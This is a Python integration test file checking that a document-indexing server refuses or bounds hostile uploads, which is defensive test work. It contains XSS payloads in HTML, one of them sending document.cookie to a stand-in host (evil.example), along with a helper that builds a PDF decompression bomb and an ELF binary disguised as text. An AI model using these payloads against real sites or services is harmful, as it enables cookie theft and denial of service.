"""Documents with hostile content are refused or bounded, and the server keeps answering.

Over the real model and a real, writable index: a megabyte on one line, binary dressed as
text, HTML full of scripts, a zip, a gzip-encoded body and a PDF decompression bomb; and, in
the corpus folder, a 100 MB file of one line.
"""

from __future__ import annotations

import gzip
import io
import json
import time
import zlib

import pytest

from kb.ingestion.sync import build_index
from kb.settings import Settings
from tests.fakes import FakeEmbedder
from tests.integration.web.test_documents_api import AUTH, KEY


def upload(client, name: str, data: bytes):
    return client.post("/api/documents", data={"file": (io.BytesIO(data), name)}, headers=AUTH,
                       content_type="multipart/form-data")


def bomb_pdf(expanded_bytes: int) -> bytes:
    """A valid one-page PDF whose content stream inflates to ``expanded_bytes`` (about 1000:1)."""
    stream = zlib.compress(b"BT /F1 12 Tf 72 720 Td (" + b"A" * expanded_bytes + b") Tj ET", 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_a_megabyte_on_one_line_is_split_into_bounded_passages(make_client, embedder):
    client, _ = make_client(api_key=KEY)
    line = " ".join(f"Shipment {i} of wheat left Aktau port for Baku." for i in range(3000))  # ~150 KB, no newline
    began = time.perf_counter()
    response = upload(client, "one-line.txt", line.encode())
    assert response.status_code == 201, response.get_json()
    doc_id = response.get_json()["documents"][0]["id"]
    assert time.perf_counter() - began < 600  # a guard against a hang, not a speed target
    passages = response.get_json()["documents"][0]["passages"]
    assert passages > 10
    hits = client.get("/api/search", query_string={"q": "wheat shipment from Aktau", "doc_id": doc_id, "k": 50}).get_json()
    for hit in hits["results"]:
        assert embedder.count_tokens(hit["text"]) <= embedder.max_tokens
        assert line[hit["start"]:hit["end"]] == hit["text"], "offsets stay exact inside the long line"


def test_script_laden_html_is_indexed_without_its_scripts(make_client):
    client, _ = make_client(api_key=KEY)
    html = ("<html><head><title>Grain corridor</title><script>alert(document.cookie)</script></head><body>"
            "<script>fetch('https://evil.example/'+document.cookie)</script>"
            "<p onclick=\"alert(2)\">The grain corridor runs from Kazakhstan across the Caspian Sea to Azerbaijan.</p>"
            "<img src=x onerror=alert(3)><style>body{display:none}</style>"
            "<p>Rail freight through the corridor grew in 2023.</p></body></html>")
    response = upload(client, "corridor.html", html.encode())
    assert response.status_code == 201, response.get_json()
    doc_id = response.get_json()["documents"][0]["id"]
    text = client.get(f"/api/documents/{doc_id}").get_json()["text"]
    assert "grain corridor runs" in text
    for code in ("alert(", "document.cookie", "evil.example", "onerror", "display:none"):
        assert code not in text
    page = client.get(f"/documents/{doc_id}").get_data(as_text=True)
    assert "<script" not in page.lower() and "onerror" not in page


@pytest.mark.parametrize(("name", "data", "status", "code"), [
    ("payload.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 64, 422, "unreadable_document"),
    ("archive.zip", b"PK\x03\x04" + zlib.compress(b"\x00" * 10_000_000), 415, "unsupported_type"),
    ("bomb.pdf", None, 422, "unreadable_document"),
])
def test_binary_archives_and_decompression_bombs_are_refused(make_client, name, data, status, code):
    client, settings = make_client(api_key=KEY)
    if data is None:
        data = bomb_pdf(200 * 2**20)  # 200 MB inflated from about 200 KB
        assert len(data) < 1024 * 1024
    response = upload(client, name, data)
    assert response.status_code == status and response.get_json()["error"]["code"] == code, response.get_json()
    if name == "bomb.pdf":
        assert "decompression limit" in response.get_json()["error"]["message"]
    assert not (settings.corpus_dir / "uploads").exists() or not any((settings.corpus_dir / "uploads").iterdir())
    assert client.get("/api/health").status_code == 200


def test_a_compressed_body_is_refused_not_inflated(make_client):
    client, _ = make_client(api_key=KEY)
    body = gzip.compress(json.dumps({"text": "x" * 50_000_000}).encode())  # 50 MB of JSON in about 50 KB
    response = client.post("/api/documents", data=body, headers={**AUTH, "Content-Encoding": "gzip"},
                           content_type="application/json")
    assert response.status_code == 415 and response.get_json()["error"]["code"] == "unsupported_content_encoding"
    search = client.post("/api/search", data=gzip.compress(b'{"q": "wheat"}'), content_type="application/json",
                         headers={"Content-Encoding": "gzip"})
    assert search.status_code == 415


def test_a_100_mb_file_of_one_line_in_the_corpus_is_skipped_not_read(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "note.txt").write_text("A small note\n\nKazakhstan exports grain.", encoding="utf-8")
    with open(corpus / "giant.txt", "wb") as handle:
        chunk = b"word " * (2**20 // 5)
        for _ in range(100):
            handle.write(chunk)
    settings = Settings.from_env(environ={}, corpus_dir=corpus, index_dir=tmp_path / "index")
    report = build_index(settings, embedder=FakeEmbedder())
    assert report.skipped_files == ["giant.txt"] and report.documents == 1
